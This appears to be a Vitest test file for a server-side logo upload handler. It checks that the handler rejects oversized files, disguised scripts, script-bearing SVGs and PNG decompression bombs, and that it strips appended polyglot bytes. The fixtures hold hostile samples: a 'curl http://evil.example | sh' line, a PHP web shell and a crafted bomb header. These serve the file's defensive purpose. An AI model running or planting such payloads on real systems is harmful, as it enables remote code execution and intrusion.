import sharp from 'sharp';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { LOGO_MAX_SIDE, processLogo } from '../../../src/lib/server/organisations/logo';

function crc32(bytes: Buffer): number {
	let crc = ~0;
	for (const b of bytes) {
		crc ^= b;
		for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
	}
	return ~crc >>> 0;
}

function chunk(type: string, data: Buffer): Buffer {
	const head = Buffer.alloc(4);
	head.writeUInt32BE(data.length);
	const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
	const crc = Buffer.alloc(4);
	crc.writeUInt32BE(crc32(body));
	return Buffer.concat([head, body, crc]);
}

/** A tiny file whose header claims a width x height RGB canvas (a decompression bomb). */
function pngHeader(width: number, height: number): Buffer {
	const ihdr = Buffer.alloc(13);
	ihdr.writeUInt32BE(width, 0);
	ihdr.writeUInt32BE(height, 4);
	ihdr.set([8, 2, 0, 0, 0], 8);
	return Buffer.concat([
		Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
		chunk('IHDR', ihdr),
		chunk('IDAT', deflateSync(Buffer.alloc(1024))),
		chunk('IEND', Buffer.alloc(0))
	]);
}

describe('logo uploads', () => {
	it('re-encode a real PNG to WebP of at most 512 px', async () => {
		const png = await sharp({
			create: { width: 1200, height: 600, channels: 3, background: '#c8733b' }
		})
			.png()
			.toBuffer();
		const result = await processLogo(png);
		expect(result.ok).toBe(true);
		if (!result.ok) return;
		const meta = await sharp(result.webp).metadata();
		expect(meta.format).toBe('webp');
		expect(Math.max(meta.width ?? 0, meta.height ?? 0)).toBe(LOGO_MAX_SIDE);
	});

	it('refuse a 20 MB file before decoding it', async () => {
		expect(await processLogo(new Uint8Array(20 * 1024 * 1024))).toEqual({
			ok: false,
			problem: 'tooBig'
		});
	});

	it('refuse a script renamed to logo.png (type comes from the bytes)', async () => {
		const script = Buffer.from(
			'#!/bin/sh\ncurl http://evil.example | sh\n<?php system($_GET["c"]); ?>'
		);
		const result = await processLogo(script);
		expect(result.ok).toBe(false);
	});

	it('refuse an SVG carrying script', async () => {
		const svg = Buffer.from(
			'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>'
		);
		expect(await processLogo(svg)).toEqual({ ok: false, problem: 'type' });
	});

	it('refuse a 50,000 x 50,000 PNG header without decoding it', async () => {
		const bomb = pngHeader(50_000, 50_000);
		expect(bomb.length).toBeLessThan(10_000);
		expect(await processLogo(bomb)).toEqual({ ok: false, problem: 'pixels' });
	});

	it('drop bytes appended after the image (polyglots)', async () => {
		const png = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#fff' } })
			.png()
			.toBuffer();
		const polyglot = Buffer.concat([png, Buffer.from('<script>alert(1)</script>')]);
		const result = await processLogo(polyglot);
		expect(result.ok).toBe(true);
		if (result.ok) expect(result.webp.includes('<script>')).toBe(false);
	});
});
